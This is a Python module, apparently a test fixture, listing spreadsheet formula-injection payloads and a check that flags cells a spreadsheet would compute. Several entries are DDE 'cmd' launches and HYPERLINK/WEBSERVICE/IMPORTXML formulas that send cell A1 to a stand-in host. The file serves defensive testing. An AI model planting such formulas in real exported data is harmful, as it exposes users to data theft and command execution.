"""What a spreadsheet would compute, in the ways in which it has been smuggled into one."""

from kb.formats.table import TRIGGERS

# What programs strip before they look, or do not show.
UNSEEN = "\ufeff\u200b\u200e\u2066\u202e\u00a0\x0b "
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "=1+1",
    "=SUM(1,1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMAGE("http://evil.example/x.png")',
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+44 20 7946 0000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-5",
    "- a line of a list",
    "−5 is a minus sign and no trigger",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@somebody wrote",
    "\t=1+1",
    "\ttabbed",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\0=1+1",
    "\0",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '","=1+1',
    "=\n1+1",
    ";=1+1",
    "%0A=1+1",
    "\u202e=1+1",
    "\u200e\u2066+1+1",
    "\x0b=1+1",
)  # fmt: skip


def seems_safe(cell: str) -> bool:
    """Whether no program would begin to compute it."""
    return not cell.lstrip(UNSEEN).startswith(tuple(TRIGGERS))
